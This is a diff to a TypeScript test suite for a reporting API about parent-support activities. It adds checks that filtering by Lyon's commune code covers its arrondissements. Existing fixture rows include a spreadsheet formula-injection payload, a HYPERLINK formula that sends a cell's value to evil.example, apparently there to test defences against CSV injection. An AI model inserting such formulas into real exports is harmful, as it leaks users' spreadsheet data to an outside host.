@@ -233,6 +233,11 @@ function apiSuite(openTestStore: () => Promise<Store>, dispose: () => Promise<vo
     ['?sheet=FICHE%209.9', []],
     ['?structure=cs-les-tisserands', ['Café des parents', 'Groupe de parole']],
     ['?commune=69266', ['+ Atelier parents-enfants', '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")']],
+    // Lyon holds its arrondissements: Les Tisserands stand in Lyon 8e (69388).
+    ['?commune=69123', ['Café des parents', 'Groupe de parole']],
+    ['?commune=69388', ['Café des parents', 'Groupe de parole']],
+    ['?commune=69381', []],
+    ['?commune=69123&sheet=2.3.2', ['Café des parents']],
     ['?from=2026-01-01', ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', 'Café des parents', 'Groupe de parole']],
     ['?from=2026-03-12&to=2026-03-12', ['Café des parents']],
     ['?to=2026-01-19', ['+ Atelier parents-enfants']],
@@ -338,6 +343,15 @@ function apiSuite(openTestStore: () => Promise<Store>, dispose: () => Promise<vo
       expect(json).toEqual(JSON.parse(JSON.stringify(computeIndicators(kept, sheets, filter))));
     }
     expect((await getJson(api, '/api/indicators?format=csv')).response.status).toBe(400);
+  });
+
+  test('indicators for Lyon count the reports of its arrondissements', async () => {
+    const { response, json } = await getJson(api, '/api/indicators?commune=69123');
+    expect(response.status).toBe(200);
+    const inLyon = (await store.reports.list({})).filter((report) => report.communeCode === '69388');
+    expect(inLyon).toHaveLength(2);
+    expect(json).toMatchObject({ query: { communeCode: '69123' }, generatedFrom: { reports: 2, centres: 1 }, totals: { parents: 14 + 5 } });
+    expect(json).toEqual(JSON.parse(JSON.stringify(computeIndicators(inLyon, sheets, { communeCode: '69123' }))));
   });
 
   test('no query string and no header makes a 5xx', async () => {
